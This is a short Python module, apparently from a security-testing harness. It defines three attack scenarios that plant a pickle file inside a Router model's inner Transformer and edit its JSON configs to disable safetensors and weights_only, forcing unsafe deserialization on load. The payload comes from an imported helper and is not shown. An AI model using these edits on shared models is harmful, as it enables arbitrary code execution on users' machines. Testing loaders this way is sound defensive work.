"""The pickle of a Transformer inside a Router, by the Router's settings and by the Transformer's own."""

from common import Attack, Target, main

UNSAFE = {"use_safetensors": False, "weights_only": False, "dtype": "auto"}
INNER = "query_0_Transformer"


def _inner(target: Target) -> None:
    target.put_pickle(f"{INNER}/pytorch_model.bin")
    target.edit(f"{INNER}/sentence_bert_config.json", model_kwargs=UNSAFE)
    target.edit(f"{INNER}/config.json", dtype=...)


def _parameters(target: Target) -> None:
    target.put_pickle(f"{INNER}/pytorch_model.bin")
    target.edit("router_config.json", parameters={"default_route": "query", "model_kwargs": UNSAFE})


def _key(target: Target) -> None:
    target.put_pickle(f"{INNER}/pytorch_model.bin")
    target.edit("router_config.json", model_kwargs=UNSAFE)


ATTACK = Attack(
    {"the Transformer's settings": _inner, "the Router's parameters": _parameters, "the Router's settings": _key},
    live=("the Transformer's settings",),
    modules="router",
)

if __name__ == "__main__":
    main({"pickle_by_router": ATTACK})
